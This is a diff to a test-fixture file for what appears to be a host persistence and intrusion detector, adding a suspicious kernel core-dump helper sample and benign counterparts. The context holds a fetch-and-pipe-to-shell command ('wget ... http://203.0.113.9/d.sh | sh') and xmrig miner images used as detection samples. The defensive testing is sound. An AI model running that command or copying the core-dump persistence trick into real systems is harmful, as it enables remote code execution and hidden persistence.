@@ -207,6 +207,12 @@ MATCHING: Final = (
         "a family's line in what is decoded",
         followed(_BACKUP, text="wget -q -O - http://203.0.113.9/d.sh | sh > /dev/null 2>&1", step=Step.DECODED),
     ),
+    _of(
+        line := _entry(AutostartKind.KERNEL_HELPER, "/usr/local/bin/core %p"),
+        "persistence.strange-entry",
+        "a core dump that nobody's program gets",
+        followed(line, "/usr/local/bin/core", stranger("/usr/local/bin/core")),
+    ),
     *(
         Sample("identity.image", image, snapshot(pod := _container(image)), pod.subject)
         for image in ("xmrig", "registry.example.org/tools/xmrig:6.21@sha256:00")
@@ -222,6 +228,12 @@ _HONEST_LINE: Final = cron("cd / && run-parts --report /etc/cron.hourly", path=_
                            unmodified=False)  # fmt: skip
 
 SPARED: Final = (
+    _none(
+        "persistence.strange-entry",
+        "a core dump that a package's program gets",
+        line := _entry(AutostartKind.KERNEL_HELPER, "/usr/lib/systemd/systemd-coredump %P"),
+        followed(line, "/usr/lib/systemd/systemd-coredump", executable("/usr/lib/systemd/systemd-coredump")),
+    ),
     _none("identity.image", "a web server", _container("docker.io/library/nginx:1.27")),
     _none("identity.image", "a registry that is called as a miner", _container("xmrig.example.org/web:1")),
     *(
@@ -246,6 +258,13 @@ SPARED: Final = (
         "a script of an owner's that unpacks in /tmp",
         _BACKUP,
         followed(_BACKUP, "/usr/local/bin/backup", text="cd /tmp && ./configure\n/tmp/b/run", step=Step.SCRIPT),
+    ),
+    _none(
+        "persistence.suspicious-autostart",
+        "a script that a deployment carries encoded, and that unpacks in /tmp",
+        _BACKUP,
+        followed(_BACKUP, text="set -e\ncd /tmp\nmkdir b\ntar xf /srv/b.tar\n/tmp/b/run\ntrue\n", step=Step.DECODED),
+        followed(_BACKUP, "/tmp/b/run", step=Step.DECODED),
     ),
     _none("network.autostart", "a package's own", _VENDORS),
     _none("network.autostart", "an installer by its name", cron(_INSTALLER)),
